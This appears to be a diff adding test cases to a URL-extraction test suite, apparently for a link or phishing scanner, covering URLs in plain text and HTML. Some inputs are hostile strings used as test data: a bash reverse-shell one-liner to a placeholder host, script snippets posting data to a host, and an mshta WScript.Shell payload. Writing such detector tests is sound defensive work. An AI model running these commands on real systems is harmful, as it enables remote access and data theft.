@@ -433,6 +433,34 @@ describe("links in a plain text", () => {
     ["\ufe8d\ufebf\ufed0\ufec2a.example.com 到a-b点com", "a.example.com", "到a-b点com", "a-b点com"],
     ["https://127%252e0%252e0%252e1/x", "https://127%252e0%252e0%252e1/x"],
     ["see a‑b.example/x and https//:a.example now", "a‑b.example/x", "https//:a.example"],
+    [
+      "see a-b.example¹ and https://a.example/x²",
+      "a-b.example",
+      "https://a.example/x²",
+      "https://a.example/x"
+    ],
+    [
+      "https://a.example/x…more or a.example/y…",
+      "https://a.example/x…more",
+      "https://a.example/x",
+      "a.example/y"
+    ],
+    ["see https://a.example/x\\xa0y", "https://a.example/x\\xa0y", "https://a.example/x"],
+    ["①a-b.example ②b-c.example/x", "①a-b.example", "a-b.example", "②b-c.example/x", "b-c.example/x"],
+    ["now a-b.com(fake) and f(x).id", "a-b.com"],
+    ...["(fake)", "%20", "%22", "%22%3E", "%3C/a%3E", "%E3%80%82"].map((end): [string, string, string] => [
+      `See https://a.example/x${end} now`,
+      `https://a.example/x${end}`,
+      "https://a.example/x"
+    ]),
+    [
+      "see https://a.example/?q=%22b%22 and https://b.example/a%20b",
+      "https://a.example/?q=%22b%22",
+      "https://b.example/a%20b"
+    ],
+    ["bash -i >& /dev/tcp/a-b.example/443 0>&1, not /dev/tcp/$HOST/80", "a-b.example"],
+    ["(^|\\.)a-b\\.example$ (\\.|^)b-c\\.example$ 1.5.3.4$", "a-b\\.example", "b-c\\.example"],
+    ["bad(닷)example.com or bad [점] com/x", "bad(닷)example.com", "bad[점]com/x"],
     ["", ...[]]
   ])("%o", (text, ...expected) => assert.deepStrictEqual(urls(text), expected))
 })
@@ -707,6 +735,25 @@ describe("links in HTML", () => {
     [
       '<script>new ActiveXObject("WScript.Shell").Run("mshta https://a.example/x")</script>',
       ["https://a.example/x", ""]
+    ],
+    ...[
+      'fetch("HOST"+x)',
+      "$.post('HOST', {})",
+      '$.ajax({ url: "HOST" })',
+      'r.open("POST", "HOST")',
+      'form.action = "HOST"',
+      'f.setAttribute("action", "HOST")',
+      'self["location"]["href"]="HOST"',
+      'let u = "HOST"; fetch(u, { method: "POST" })',
+      'let u = "HOST"; r.open("POST", u)'
+    ].map((script): [string, [string, string]] => [
+      `<script>${script.replace("HOST", "https://a.example/x")}</script>`,
+      ["https://a.example/x", ""]
+    ]),
+    ['<script>fetch("/x.pl"); $.get("//a.example/x")</script>', ["https://a.example/x", ""]],
+    [
+      `<script>f.src="https://a.example/x"; map.set({"url":"https://b.example"}, "b")</script><a onclick="go('https://c.example')">`,
+      ["https://c.example", ""]
     ],
     ...["“HOST”", "'HOST'", "%22HOST ", "[HOST]", "/go?to=HOST"].map((value): [string, [string, string]] => [
       `<a href="${value.replace("HOST", "https://a.example/x")}">y</a>`,
